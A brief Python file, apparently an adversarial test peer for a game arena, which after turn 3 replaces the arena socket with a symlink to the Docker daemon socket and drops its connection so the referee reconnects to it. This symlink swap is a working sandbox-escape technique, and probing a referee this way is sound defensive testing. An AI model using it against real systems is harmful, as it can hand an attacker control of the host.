"""Replaces its socket while the match is played, and drops the connection to make the referee look again."""

import os
import socket

from raw import Peer, hang, serve

PATH = os.environ["ARENA_SOCKET"]


class Swapper(Peer):
    def on_turn(self, stream, turn):
        if turn.number < 3:
            super().on_turn(stream, turn)
            return
        os.unlink(PATH)
        os.symlink("/var/run/docker.sock", PATH)
        self.sock.shutdown(socket.SHUT_RDWR)
        hang()


serve(Swapper)
